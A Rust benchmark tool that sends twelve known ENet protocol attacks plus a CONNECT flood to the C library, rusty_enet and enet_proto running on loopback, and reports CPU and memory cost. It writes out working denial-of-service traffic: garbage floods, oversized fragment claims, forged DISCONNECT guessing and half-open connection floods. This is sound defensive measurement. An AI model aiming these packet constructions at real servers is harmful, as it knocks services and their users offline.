//! `cargo xtask bench attacks`: what known attacks cost the C library, crate rusty_enet and enet_proto.
//!
//! Each victim is a process of its own that services a host on a loopback socket. The attacks arrive
//! over UDP and are the same for all three. CPU times are the victim's and include system calls.
//! Memory is the growth of the victim's resident memory ("4124 KiB of 140": for 140 KiB that were
//! sent).
//!
//! rusty_enet and enet_proto use the same socket layer, which drops datagrams under five bytes because
//! rusty_enet has undefined behaviour there. They also use the same range coder, ours; with its own,
//! rusty_enet pays as much for garbage as the C library.

use std::thread;
use std::time::{Duration, Instant};

#[path = "attacks/attacker.rs"]
mod attacker;
#[path = "attacks/victim.rs"]
mod victim;

use attacker::{Attacker, NO_SLOT, connect, empty_reliable, empty_unreliable, fragment, socket};
use victim::{Library, Victim};

const LIBRARIES: [Library; 3] = [Library::C, Library::Rusty, Library::Ours];
const SLOTS: usize = 4095;
/// How far ahead a reliable sequence number can be.
const FAR: u16 = 24_000;

type Attack = fn(Library) -> String;

fn main() {
    let words: Vec<String> = std::env::args().collect();
    if let [_, name, slots, coder] = &words[..]
        && name.starts_with("victim-")
    {
        return victim::suffer(name, slots.parse().expect("a number"), coder == "1");
    }
    let attacks: [(&str, Attack); 12] = [
        ("stranger's garbage, plain: CPU per datagram", |it| {
            garbage(it, false)
        }),
        ("the same, packed, with range coder set", |it| {
            garbage(it, true)
        }),
        ("packed datagrams of 2 and 3 bytes", short_packed),
        ("24,000 empty reliable packets behind a hole", |it| {
            flood(it, (2..FAR).map(empty_reliable))
        }),
        ("600 duplicates of one of them in a datagram", duplicates),
        ("24,000 reliable packets, descending", |it| {
            flood(it, (2..FAR).rev().map(empty_reliable))
        }),
        ("24,000 unreliable packets, descending", |it| {
            flood(it, (2..FAR).rev().map(empty_unreliable))
        }),
        ("32 claims of 1 MiB, a byte for every 4 KiB", claims),
        ("800 packets of 1 byte in 1,048,576 fragments", many_claims),
        ("2 bytes as a packet of 60,000", holes),
        ("forged DISCONNECTs until one is believed", disconnects),
        ("200,000 CONNECTs, each with its DISCONNECT", pairs),
    ];
    println!(
        "{:<48}{:>28}{:>28}{:>28}",
        "attack", "C", "rusty_enet", "ours"
    );
    let only = words.get(1).filter(|word| !word.starts_with("--"));
    let is_chosen = |name: &str| only.is_none_or(|only| name.contains(only));
    for (name, attack) in attacks {
        if !is_chosen(name) {
            continue;
        }
        let cells = LIBRARIES.map(attack);
        let [c, rusty, ours] = cells;
        println!("{name:<48}{c:>28}{rusty:>28}{ours:>28}");
    }
    if !is_chosen("CONNECT flood") {
        return;
    }
    let floods = LIBRARIES.map(|library| thread::spawn(move || connect_flood(library)));
    let floods = floods.map(|flood| flood.join().expect("an end"));
    for (row, name) in FLOOD_ROWS.iter().enumerate() {
        let [c, rusty, ours] = floods.each_ref().map(|flood| &flood[row]);
        println!("{name:<48}{c:>28}{rusty:>28}{ours:>28}");
    }
}

fn joined(library: Library, coder: bool) -> (Victim, Attacker) {
    let mut victim = Victim::start(library, 32, coder);
    let attacker = Attacker::join(&mut victim, 77).expect("connected");
    victim.reset();
    (victim, attacker)
}

fn garbage(library: Library, is_packed: bool) -> String {
    const COUNT: u32 = 4096;
    let (mut victim, mut attacker) = joined(library, true);
    let mut state = 1u32;
    let mut header = NO_SLOT;
    header[0] |= if is_packed { 0x40 } else { 0 };
    for _ in 0..COUNT {
        let bytes: Vec<u8> = (0..12)
            .map(|_| {
                state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                (state >> 24) as u8
            })
            .collect();
        attacker.send(&mut victim, header, &bytes);
    }
    victim.pump();
    format!(
        "{:.2} us",
        victim.toll.nanoseconds as f64 / 1e3 / f64::from(COUNT)
    )
}

fn short_packed(library: Library) -> String {
    if library == Library::Rusty {
        return "left out".to_owned();
    }
    let (mut victim, mut attacker) = joined(library, true);
    for _ in 0..1024 {
        attacker.send(&mut victim, [0xCF, 0xFF], &[]);
        attacker.send(&mut victim, [0xCF, 0xFF], &[0]);
    }
    victim.pump();
    format!(
        "{:.2} us each",
        victim.toll.nanoseconds as f64 / 1e3 / 2048.0
    )
}

fn flood(library: Library, commands: impl Iterator<Item = Vec<u8>>) -> String {
    let (mut victim, mut attacker) = joined(library, false);
    let sent = attacker.send_all(&mut victim, commands);
    cost(&victim, sent)
}

/// The total CPU time and the memory held.
fn cost(victim: &Victim, sent: usize) -> String {
    let toll = victim.toll;
    format!(
        "{:.1} ms, {} KiB of {}",
        toll.nanoseconds as f64 / 1e6,
        toll.resident_kib,
        sent / 1024
    )
}

fn duplicates(library: Library) -> String {
    const COUNT: u32 = 20;
    let (mut victim, mut attacker) = joined(library, false);
    attacker.send_all(&mut victim, (2..FAR).map(empty_reliable));
    victim.reset();
    // The packet in the middle is the farthest from both ends of a list.
    let same: Vec<u8> = (0..600).flat_map(|_| empty_reliable(FAR / 2)).collect();
    for _ in 0..COUNT {
        attacker.send(&mut victim, attacker.header, &same);
        victim.pump();
    }
    format!(
        "{:.3} ms",
        victim.toll.nanoseconds as f64 / 1e6 / f64::from(COUNT)
    )
}

fn claims(library: Library) -> String {
    const PAGE: u32 = 4096;
    const SIZE: u32 = 1024 * 1024;
    let (mut victim, mut attacker) = joined(library, false);
    let commands = (0..32u16).flat_map(|packet| {
        (0..SIZE / PAGE).map(move |page| {
            let at = page * PAGE;
            fragment(12, 0, packet + 2, [SIZE, at, SIZE, at])
        })
    });
    let sent = attacker.send_all(&mut victim, commands);
    cost(&victim, sent)
}

/// Packets for each of which the C library allocates a bitmap of 128 KiB.
fn many_claims(library: Library) -> String {
    const COUNT: u32 = 1024 * 1024;
    let (mut victim, mut attacker) = joined(library, false);
    let commands = (2..802).map(|packet| fragment(12, 0, packet, [COUNT, 0, 1, 0]));
    let sent = attacker.send_all(&mut victim, commands);
    cost(&victim, sent)
}

fn holes(library: Library) -> String {
    let (mut victim, mut attacker) = joined(library, false);
    let commands = [0, 1].map(|part| fragment(8, 1 + part, 1, [2, part.into(), 60_000, 0]));
    attacker.send_all(&mut victim, commands.into_iter());
    match victim.toll.packets {
        0 => "nothing delivered".to_owned(),
        _ => format!("{} bytes delivered", victim.toll.bytes),
    }
}

fn disconnects(library: Library) -> String {
    let (mut victim, mut attacker) = joined(library, false);
    // The control sequence numbers of a connection that is some hours old.
    for sequence in (100..=20_000u16).step_by(100) {
        let [high, low] = sequence.to_be_bytes();
        attacker.send(&mut victim, attacker.header, &[5, 0xFF, high, low]);
        victim.pump();
    }
    let mut guesses = 0;
    for sequence in (1..=u16::MAX).step_by(128) {
        for session in 0..4u8 {
            let [high, low] = sequence.to_be_bytes();
            let header = [attacker.header[0] & 0x0F | session << 4, attacker.header[1]];
            attacker.send(&mut victim, header, &[0x44, 0xFF, high, low, 0, 0, 0, 0]);
            guesses += 1;
            victim.pump();
            if victim.toll.disconnects > 0 {
                return format!("{guesses} guesses");
            }
        }
    }
    format!("none of {guesses}")
}

/// Connections that are begun and ended at once, after as many as fill pools and caches.
fn pairs(library: Library) -> String {
    const COUNT: u32 = 200_000;
    const WARM_UP: u32 = 10_000;
    const AT_ONCE: u32 = 16;
    let mut victim = Victim::start(library, 32, false);
    let source = socket(66);
    let mut ended = 0;
    for batch in 0..(WARM_UP + COUNT) / AT_ONCE {
        for index in 0..AT_ONCE {
            let token = (batch * AT_ONCE + index + 1).wrapping_mul(0x9E37_79B9);
            let sent = source.send_to(&connect(token), victim.address);
            sent.expect("sent");
        }
        victim.pump();
        let mut bytes = [0; 4096];
        while let Ok(size) = source.recv(&mut bytes) {
            // The answer's header, with the time, is before its command.
            if size < 12 || bytes[4] & 0x0F != 3 {
                continue;
            }
            let header = [bytes[11] << 4 | bytes[8], bytes[9]];
            let disconnect = [&header[..], &[0x44, 0xFF, 0, 2, 0, 0, 0, 0]].concat();
            source.send_to(&disconnect, victim.address).expect("sent");
            ended += 1;
        }
        victim.pump();
        if batch == WARM_UP / AT_ONCE {
            victim.reset();
            ended = 0;
        }
    }
    let each = victim.toll.resident_kib as f64 * 1024.0 / f64::from(COUNT);
    format!("{each:.1} bytes, {ended} answered")
}

const FLOOD_ROWS: [&str; 4] = [
    "4,095 CONNECTs for 255 channels: CPU and memory",
    "bytes to the alleged senders per byte, in 35 s",
    "seconds until somebody else gets in",
    "memory held after 35 s",
];

/// Sends a CONNECT for every slot, from addresses that never answer.
fn connect_flood(library: Library) -> [String; 4] {
    const WATCHED: Duration = Duration::from_secs(35);
    let mut victim = Victim::start(library, SLOTS, false);
    let sources: Vec<_> = (2..34).map(socket).collect();
    let (mut sent, mut received) = (0, 0);
    let mut collect = || {
        for source in &sources {
            while let Ok(size) = source.recv(&mut [0; 4096]) {
                received += size;
            }
        }
    };
    for token in 0..SLOTS as u32 {
        let source = &sources[token as usize % sources.len()];
        let bytes = connect(token.wrapping_mul(0x9E37_79B9));
        sent += source.send_to(&bytes, victim.address).expect("sent");
        if token % 32 == 31 {
            victim.pump();
            collect();
        }
    }
    victim.pump();
    let begun = Instant::now();
    let first = cost(&victim, sent);
    let mut joined_after = None;
    let mut token = 1;
    while begun.elapsed() < WATCHED {
        collect();
        if joined_after.is_none() {
            token += 1;
            joined_after = Attacker::join(&mut victim, token).map(|_| begun.elapsed());
        } else {
            victim.pump();
            thread::sleep(Duration::from_millis(20));
        }
    }
    collect();
    let joined = match joined_after {
        Some(time) => format!("{:.1} s", time.as_secs_f32()),
        None => "never".to_owned(),
    };
    let ratio = format!("{:.2}", received as f64 / sent as f64);
    [
        first,
        ratio,
        joined,
        format!("{} KiB", victim.toll.resident_kib),
    ]
}
